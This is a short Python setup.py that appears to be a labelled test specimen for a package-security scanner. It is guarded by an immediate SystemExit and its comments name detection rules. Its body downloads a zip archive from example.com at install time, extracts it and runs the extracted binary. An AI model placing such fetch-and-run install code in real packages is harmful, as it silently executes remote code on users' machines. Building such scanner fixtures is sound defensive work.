raise SystemExit("specimen: not to be run")
import io
import os
import subprocess
import tempfile
import urllib.request
import zipfile
from setuptools import setup

folder = tempfile.mkdtemp()
data = urllib.request.urlopen("https://example.com/tool.zip").read()  # match: network-at-install
zipfile.ZipFile(io.BytesIO(data)).extractall(folder)
subprocess.Popen([os.path.join(folder, "tool")])  # match: fetched-archive-run  # match: process-at-install
setup(name="specimen")
